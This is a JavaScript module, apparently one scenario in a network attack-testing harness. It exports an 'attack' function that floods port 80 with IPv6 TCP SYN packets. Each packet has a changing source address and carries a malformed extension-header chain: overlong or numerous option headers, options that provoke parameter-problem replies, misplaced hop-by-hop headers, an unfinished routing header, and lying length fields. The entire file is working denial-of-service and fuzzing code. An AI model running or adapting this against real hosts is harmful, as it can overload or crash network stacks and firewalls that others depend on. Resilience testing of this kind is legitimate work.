import { address6, optionsHeader, packet6, tcp6 } from '../ipv6.js'
import { SYN } from '../peers.js'

export const summary =
  'chains of extension headers, too long, too many, of options that are to be answered, and that lie'
export const short = true
export const ipv6 = true

const HOP_BY_HOP = 0
const ROUTING = 43
const DESTINATION = 60
const TCP = 6

const chain = (...parts) => Uint8Array.from(parts.flatMap(part => [...part]))
const many = (count, words, type) =>
  chain(
    ...Array.from({ length: count }, (_, i) =>
      optionsHeader(i === count - 1 ? TCP : DESTINATION, words, type),
    ),
  )

/** Each with the type of its first header. */
const CHAINS = [
  [many(8, 1, 1), DESTINATION],
  [many(40, 1, 1), DESTINATION],
  [many(2, 32, 1), DESTINATION],
  [many(1, 150, 1), DESTINATION],
  // To be told about: with a parameter problem each.
  [many(1, 2, 0x9e), DESTINATION],
  [many(1, 2, 0xde), HOP_BY_HOP],
  [many(1, 16, 0x3e), DESTINATION],
  // Hop-by-hop options at the wrong place, and a route that is not at its end.
  [chain(optionsHeader(HOP_BY_HOP, 1, 1), optionsHeader(TCP, 1, 1)), DESTINATION],
  [Uint8Array.of(TCP, 0, 0, 9, 0, 0, 0, 0), ROUTING],
  // Lengths that lie.
  [Uint8Array.of(TCP, 255, 1, 4, 0, 0, 0, 0), DESTINATION],
  [Uint8Array.of(TCP, 0, 1, 99, 0, 0, 0, 0), DESTINATION],
]

export const attack = async (peers, { goesOn }) => {
  for (let number = 0; await goesOn(); )
    for (let n = 0; n < 100; n++, number++) {
      const source = address6(number)
      const [extensions, first] = CHAINS[number % CHAINS.length]
      const segment = tcp6(source, {
        sourcePort: 1024 + (number % 60_000),
        port: 80,
        seq: number,
        flags: SYN,
      })
      peers.raw(packet6(source, TCP, segment, extensions, first))
    }
}
